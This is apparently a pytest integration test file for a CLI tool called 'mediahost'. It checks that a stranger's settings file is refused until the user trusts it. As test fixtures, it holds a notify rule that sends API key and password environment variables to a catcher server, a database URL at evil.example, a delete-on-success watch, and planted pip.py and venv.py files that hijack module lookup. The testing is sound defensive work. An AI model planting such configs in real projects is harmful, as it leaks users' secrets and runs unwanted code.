"""A stranger's folder: an unpacked archive with settings of its own beside the media files."""

import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from tests.integration.cli.conftest import Terminal
    from tests.integration.conftest import Home

SECRETS = {"OPENAI_API_KEY": "sk-SECRET123", "DATABASE_PASSWORD": "hunter2"}
LOOK = ("run", "media", "--action", "count.look")


class Catcher:
    """A stranger's server, and what it was sent."""

    def __init__(self) -> None:
        self.caught: list[str] = []
        caught = self.caught

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                caught.append(f"{self.path} {self.headers}")
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.place = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def catcher() -> Iterator[Catcher]:
    """A stranger's server."""
    one = Catcher()
    yield one
    one.server.shutdown()
    one.server.server_close()


def strange(home: "Home", text: str) -> Path:
    """A settings file that the person has not written."""
    file = home.folder / "mediahost.toml"
    file.write_text(text)
    return file


def notify(catcher: Catcher) -> str:
    return (
        '[[plugins.notify.rules]]\non = ["completed", "failed", "finished"]\nevery_s = 0.1\n'
        f'to = "json://{catcher.place}/x/${{OPENAI_API_KEY}}/${{DATABASE_PASSWORD}}"\n'
    )


@pytest.mark.parametrize(
    "command",
    [LOOK, ("work", "--drain"), ("watch", "media", "--once", "-a", "count.look"), ("jobs", "list")],
)
def test_no_command_sends_a_secret_where_a_stranger_wants_it(
    home: "Home", catcher: Catcher, command: tuple[str, ...]
) -> None:
    home.tone("talk.wav")
    file = strange(home, notify(catcher))
    refused = home.call(*command, environ=SECRETS)
    assert refused.code == 3, refused.out
    assert refused.out == ""
    assert refused.err == (
        f"mediahost: The settings file {file} is not trusted, and it sets plugins\n"
        f"  Read it, then trust it: mediahost trust {home.folder}\n"
        "  Or name another file: mediahost --settings FILE ...\n"
    )
    assert catcher.caught == []
    assert not home.ran()


def test_the_same_file_counts_once_it_is_trusted(home: "Home", catcher: Catcher) -> None:
    home.tone("talk.wav")
    strange(home, notify(catcher))
    trusted = home.call("trust", home.folder)
    assert trusted.code == 0
    assert trusted.out == f"{home.folder / 'mediahost.toml'} is trusted\n  plugins\n"
    assert home.call(*LOOK, environ=SECRETS).code == 0
    assert any("/x/sk-SECRET123/hunter2" in one for one in catcher.caught)
    assert home.call("trust", "--list").out == f"{home.folder / 'mediahost.toml'}\n"
    assert home.call("trust", "--remove").code == 0
    assert home.call(*LOOK, environ=SECRETS).code == 3


@pytest.mark.parametrize(
    "text",
    [
        'executor = "dask"\nscheduler = "tcp://127.0.0.1:9"',
        'database_url = "postgresql://evil.example/x"',
        'data_dir = "mine"',
        '[[watch]]\npath = "media"\non_success = "delete"\nsteps = [{action = "count.look"}]',
        'remote_allow = ["http://*"]',
    ],
)
def test_neither_a_scheduler_nor_a_store_nor_a_watch_of_a_stranger_is_used(
    home: "Home", text: str
) -> None:
    tone = home.tone("talk.wav")
    strange(home, text)
    for command in (LOOK, ("watch", "--once")):
        answer = home.call(*command)
        assert (answer.code, answer.out) == (3, "")
        assert "is not trusted" in answer.err
    assert tone.exists()
    assert not (home.folder / "mine").exists()
    assert not home.data.exists()


def test_a_program_that_embeds_the_host_is_refused_too(home: "Home") -> None:
    strange(home, "workers = 3")
    done = subprocess.run(
        [sys.executable, "-c", "from mediahost.settings import load_settings; load_settings()"],
        cwd=home.folder,
        env=home.environ,
        capture_output=True,
        text=True,
        check=False,
    )
    assert "mediahost.trust.UntrustedSettings: The settings file" in done.stderr


def test_a_pipeline_of_the_folder_works_without_trust(home: "Home") -> None:
    home.tone("talk.wav")
    strange(home, '[[pipelines.talks.steps]]\naction = "count.look"')
    assert home.call("run", "media", "--pipeline", "talks").code == 0
    needless = home.call("trust")
    assert needless.code == 0
    assert "needs no trust" in needless.out


def test_trust_where_there_is_nothing_to_trust_is_a_mistake(home: "Home") -> None:
    answer = home.call("trust", "nowhere")
    assert answer.code == 2
    assert answer.err.startswith("mediahost: There is no settings file ")


def test_no_answer_of_a_completion_is_a_question(home: "Home") -> None:
    strange(home, "workers = 3")
    completing = {
        "_MEDIAHOST_COMPLETE": "complete_bash",
        "COMP_WORDS": "mediahost run x --pipeline ",
        "COMP_CWORD": "4",
    }
    answer = home.call(environ=completing)
    assert (answer.out.strip(), answer.err) == ("", "")


def test_on_a_terminal_the_person_is_asked(home: "Home", terminal: "Terminal") -> None:
    strange(home, "workers = 3")
    terminal.start("mediahost jobs list; echo [$?]; mediahost jobs list")
    terminal.wait_for(lambda lines: "Trust it as it is now? [y/N]:" in "\n".join(lines))
    terminal.type("n")
    terminal.type("Enter")
    terminal.wait_for(lambda lines: "[3]" in lines)
    terminal.wait_for(lambda lines: "\n".join(lines).count("Trust it as it is now? [y/N]:") == 2)
    terminal.type("y")
    terminal.type("Enter")
    terminal.wait_for(lambda lines: "[0]" in lines)
    assert home.call("jobs", "list").code == 0


def test_a_plugin_is_installed_without_code_or_settings_of_the_folder(home: "Home") -> None:
    """Python looks for modules where it is started, and uv for its settings."""
    (home.folder / "pip.py").write_text("raise SystemExit('a stranger ran')")
    answer = home.call("plugins", "uninstall", "mediahost-nothing-of-that-name")
    assert "a stranger ran" not in answer.err
    shared = home.call("plugins", "install", "--shared", "./no-such-folder")
    assert "a stranger ran" not in shared.err
    (home.folder / "uv.toml").write_text("this is no TOML")
    (home.folder / "venv.py").write_text("raise SystemExit('a stranger ran')")
    isolated = home.call("plugins", "install", "--isolated", "./no-such-folder")
    assert "uv.toml" not in isolated.err
    assert "a stranger ran" not in isolated.err
